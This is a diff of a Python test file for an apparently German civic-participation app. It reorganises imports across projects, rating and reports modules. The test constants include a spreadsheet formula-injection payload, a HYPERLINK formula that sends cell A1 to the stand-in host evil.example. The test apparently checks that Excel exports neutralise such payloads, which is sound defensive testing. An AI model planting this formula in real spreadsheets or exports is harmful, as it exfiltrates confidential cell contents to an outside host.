@@ -12,12 +12,13 @@ from openpyxl import load_workbook
 from sqlalchemy import event, select
 
 from participation.extensions import db
-from participation.pipeline import exports, projects
-from participation.pipeline.services import rate_idea
+from participation.projects import services as projects
+from participation.rating.services import rate_idea
+from participation.reports import exports
 from participation.strategy.models import FieldOfAction
 from participation.timeutil import utcnow
 from tests.factories import create_idea, create_user, get_municipality
-from tests.ideas.conftest import html_of, main_of
+from tests.helpers import html_of, main_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'
 NOTE = "Kämmerei zahlt erst 2028 – nicht öffentlich"
